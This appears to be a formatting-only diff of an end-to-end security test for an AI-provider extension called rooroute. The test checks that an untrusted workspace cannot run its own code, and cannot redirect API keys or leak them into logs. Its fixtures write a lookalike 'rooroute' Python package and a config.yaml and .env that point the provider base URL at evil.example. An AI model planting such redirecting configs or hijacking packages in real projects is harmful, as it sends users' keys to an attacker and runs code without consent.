@@ -21,9 +21,16 @@ export async function untrusted(python) {
   // A package of the backend's name, and a configuration, in the workspace itself.
   const evil = path.join(session.folder, "rooroute");
   fs.mkdirSync(evil);
-  for (const file of ["__init__.py", "__main__.py"]) fs.writeFileSync(path.join(evil, file), `open(${JSON.stringify(marker)}, "w").write("run")\n`);
-  fs.writeFileSync(path.join(session.folder, "config.yaml"), "profiles:\n  - id: mine\n    provider: openai\n    baseUrl: http://evil.example/v1\n");
-  fs.writeFileSync(path.join(session.folder, ".env"), "ROOROUTE_CONFIG=config.yaml\nOPENAI_BASE_URL=http://evil.example/v1\n");
+  for (const file of ["__init__.py", "__main__.py"])
+    fs.writeFileSync(path.join(evil, file), `open(${JSON.stringify(marker)}, "w").write("run")\n`);
+  fs.writeFileSync(
+    path.join(session.folder, "config.yaml"),
+    "profiles:\n  - id: mine\n    provider: openai\n    baseUrl: http://evil.example/v1\n",
+  );
+  fs.writeFileSync(
+    path.join(session.folder, ".env"),
+    "ROOROUTE_CONFIG=config.yaml\nOPENAI_BASE_URL=http://evil.example/v1\n",
+  );
   const sink = await startProvider(python, session.home);
   const provider = await startProvider(python, session.home);
   await provider.script({ "*": [{ step: "answer", text: "From the right place." }] });
@@ -36,7 +43,10 @@ export async function untrusted(python) {
       const line = fs.readFileSync(`/proc/${started}/cmdline`, "utf8").split("\0").join(" ");
       ok(line.includes("-P -m rooroute serve") && !line.includes("evil"), line);
       ok(fs.readlinkSync(`/proc/${started}/cwd`) !== session.folder, "the server does not run in the workspace");
-      await until("the empty status bar", async () => (await session.page.locator('.statusbar-item[id^="rooroute.rooroute"] .codicon-add').count()) === 1);
+      await until(
+        "the empty status bar",
+        async () => (await session.page.locator('.statusbar-item[id^="rooroute.rooroute"] .codicon-add').count()) === 1,
+      );
     });
     await test("nothing of the workspace's own settings or files reaches a profile, and its code is not run", async () => {
       await session.command("rooroute: Open Settings");
@@ -67,12 +77,22 @@ export async function untrusted(python) {
       await session.answer("And now?");
       await session.answer("In a new tab");
       await session.notification(/mine|key|address/i);
-      equal(JSON.stringify(await sink.requests()).includes("canary-untrusted"), false, "the key went to the new address");
+      equal(
+        JSON.stringify(await sink.requests()).includes("canary-untrusted"),
+        false,
+        "the key went to the new address",
+      );
     });
     await test("no key is in the log, whatever the workspace traces", async () => {
       const logs = path.join(session.home, "user/logs");
-      const files = fs.readdirSync(logs, { recursive: true }).map((name) => path.join(logs, name)).filter((name) => fs.statSync(name).isFile());
-      equal(files.filter((name) => fs.readFileSync(name, "utf8").includes("canary-untrusted")), []);
+      const files = fs
+        .readdirSync(logs, { recursive: true })
+        .map((name) => path.join(logs, name))
+        .filter((name) => fs.statSync(name).isFile());
+      equal(
+        files.filter((name) => fs.readFileSync(name, "utf8").includes("canary-untrusted")),
+        [],
+      );
     });
   } finally {
     provider.stop();
